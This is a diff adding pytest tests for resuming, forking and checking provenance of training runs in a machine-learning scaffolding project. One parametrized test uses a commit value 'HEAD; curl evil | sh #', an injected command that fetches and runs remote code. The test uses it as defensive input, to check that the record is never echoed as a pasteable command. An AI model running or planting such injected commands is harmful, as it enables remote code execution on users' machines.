@@ -7,6 +7,7 @@ import signal
 import zipfile
 from itertools import product
 from pathlib import Path
+from typing import Any
 
 import pytest
 import torch
@@ -17,6 +18,7 @@ from conftest import BASE, ENV, TESTS, TRAIN, Train, assert_same_run, latest, ru
 from scaffolding.core.checks.rehearsal import first_difference
 from scaffolding.core.folder.facts import Facts
 from scaffolding.core.folder.folder import read_status
+from scaffolding.core.resume.resume import _way_back
 from scaffolding.core.state import checkpoint
 from scaffolding.core.state.checkpoint import step_in
 from scaffolding.core.tree import changed_keys
@@ -261,6 +263,9 @@ def test_code_that_changed_since_is_told_once(train: Train, output_root: Path) -
     record = json.loads(file.read_text())
     assert "has changed since" not in train("resume=run", env={"KILL_AT": "2"}, code=-9).stderr
     file.write_text(json.dumps(record | {"code": "another", "commit": "0123abc"}))
+    file.with_name("changes.patch").write_text("x")
+    for packed in file.parent.glob("sources*"):  # where git does not know the code
+        packed.unlink()
     done = train("resume=run", env={"KILL_AT": "2"}, code=-9)
     assert done.stderr.count("has changed since run ran: it goes on with that of now") == 1
     assert f"git worktree add ../again 0123abc; git -C ../again apply {file.with_name('changes.patch')}" in done.stderr
@@ -381,3 +386,57 @@ def test_what_is_not_a_number_is_not_a_change() -> None:
     """Fails where NaN in a config makes a run that cannot be resumed."""
     assert changed_keys({"a": float("nan"), "b": 1}, {"a": float("nan"), "b": 1.0}) == {}
     assert changed_keys({"a": float("nan")}, {"a": 0.0}).keys() == {"a"}
+    assert changed_keys({"limit_x": 1, "limit_y": 2}, {"limit_x": 1.0, "limit_y": 2.0}) == {"limit_x": (1, 1.0)}
+
+
+@pytest.mark.parametrize(
+    ("entry", "way"),
+    [
+        ({"commit": "0123abcd"}, "get it back with: git worktree add ../again 0123abcd"),
+        ({"commit": "HEAD; curl evil | sh #"}, "check out the code it ran"),
+        ({"commit": "0123abcd", "step": 3}, "get it back with: git worktree add ../again 0123abcd; "
+         "git -C ../again apply '{run}/changes_3.patch'"),
+        ({"commit": "HEAD; x", "step": 3}, "check out the code it ran, and apply {run}/changes_3.patch"),
+        ({"commit": None, "step": 5}, "get it back from: {run}/sources_5.tar.gz"),
+    ],
+)  # fmt: skip
+def test_the_way_back_to_the_code_can_be_pasted(tmp_path: Path, entry: dict[str, Any], way: str) -> None:
+    """Fails where a stranger's record becomes a command, or git is given an empty patch."""
+    run = tmp_path / "o b"
+    run.mkdir()
+    (run / "changes.patch").touch()
+    (run / "changes_3.patch").write_text("x")
+    (run / "sources_5.tar.gz").touch()
+    assert _way_back(run, entry) == way.format(run=run)
+
+
+def test_a_record_of_other_types_is_read(train: Train, output_root: Path) -> None:
+    train(*BASE, "run.name=run", "run.budget=2")
+    file = output_root / "run" / "provenance.json"
+    record = json.loads(file.read_text())
+    file.write_text(json.dumps(record | {"parent": "x", "resumed": [5, {"step": "../x"}]}))
+    train("resume=run", "run.budget=3")
+    again = json.loads(file.read_text())
+    assert again["parent"] is None and [entry["step"] for entry in again["resumed"]] == [3]
+    file.write_text(json.dumps(record | {"parent": "x", "resumed": 5}))
+    assert "rows identical" in train("rerun=run", "run.name=again", "run.budget=3", code=None).stdout
+
+
+def test_a_fork_that_was_killed_at_its_start_has_not_reached_its_parents_target(
+    train: Train, output_root: Path
+) -> None:
+    train(*BASE, "run.name=parent", "run.target_loss=100")
+    words = ("--config-dir", str(TESTS / "configs"), "fork=parent", "fork_state=true", "run.name=child")
+    train(*words, env={"KILL_AT": "1"}, code=-signal.SIGKILL)
+    train("resume=child")
+    assert read_status(output_root / "child")["step"] == read_status(output_root / "parent")["step"] + 1
+
+
+def test_a_position_behind_the_end_of_an_epoch_is_refused(train: Train, output_root: Path) -> None:
+    """Fails where the resumed run waits for ever for a batch."""
+    train(*BASE, "run.name=run", env=STOP, code=143)
+    file = output_root / "run" / "checkpoints" / "latest.pt"
+    content = checkpoint.load(file)
+    content["state"]["position"] = 5000
+    checkpoint.save(file, dict(content))
+    assert "data: run stands at batch 5000 of an epoch, which now has" in train("resume=run", code=2).stderr
